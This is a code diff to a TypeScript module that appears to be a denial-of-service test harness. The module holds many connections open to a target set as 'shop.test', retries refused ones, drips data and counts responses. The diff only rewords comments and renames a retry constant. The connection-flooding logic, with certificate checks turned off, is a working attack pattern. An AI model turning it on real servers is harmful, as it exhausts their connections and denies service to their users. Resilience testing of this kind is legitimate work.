@@ -22,12 +22,12 @@ export interface AttackTarget {
   readonly isTls: boolean;
 }
 
-/** What an attacker saw so far: counts since its start, but for `open`. */
+/** Counters of an attacker since its start, except for `open`. */
 export interface AttackCounts {
   /** Connections that are open now. */
   open: number;
   connected: number;
-  /** Connections that were refused or reset before anything was answered. */
+  /** Connections that were never established: refused, reset or aborted. */
   refused: number;
   /** Requests or streams that were begun. */
   sent: number;
@@ -50,7 +50,7 @@ export const SITE = 'shop.test';
 export function open({ target, counts, signal }: AttackContext): Promise<Socket | undefined> {
   const { host, port, isTls } = target;
   const socket = isTls
-    ? // The attacker does not care who answers.
+    ? // The attacker does not verify certificates.
       connectTls({ host, port, ALPNProtocols: ['http/1.1'], rejectUnauthorized: false, servername: SITE })
     : connect({ host, port });
   return new Promise((resolve) => {
@@ -99,10 +99,10 @@ export function pause(ms: number, signal: AbortSignal): Promise<void> {
   });
 }
 
-/** How soon a place whose connection was refused or closed is tried again. */
-const AGAIN_MS = 500;
+/** Pause after a refused connection, before the retry. */
+const RETRY_MS = 500;
 
-/** Keeps `count` connections: each place holds one after the other until the signal aborts. `use` resolves when its connection is closed. */
+/** Keeps `count` connections until the signal aborts, and replaces closed ones. `use` resolves when its connection is closed. */
 export async function keepOpen(
   context: AttackContext,
   count: number,
@@ -111,11 +111,11 @@ export async function keepOpen(
   const { signal } = context;
   await Promise.all(
     Array.from({ length: count }, async (_, index) => {
-      // Not all in one instant: this is one process.
+      // One per millisecond, because this is a single process.
       await pause(index, signal);
       while (!signal.aborted) {
         const socket = await open(context);
-        if (socket === undefined) await pause(AGAIN_MS, signal);
+        if (socket === undefined) await pause(RETRY_MS, signal);
         else await use(socket);
       }
     }),
@@ -132,7 +132,7 @@ export async function untilClosed(socket: Socket, { counts, signal }: AttackCont
   socket.once('data', (chunk) => {
     countStatus(counts, chunk);
   });
-  // Whoever answers and closes is read to the end; nobody else is.
+  // All data is consumed: a socket with unread data does not emit `close`.
   socket.on('data', () => undefined);
   const timer = drip === undefined ? undefined : setInterval(drip, 1_000);
   const end = (): void => void socket.destroy();
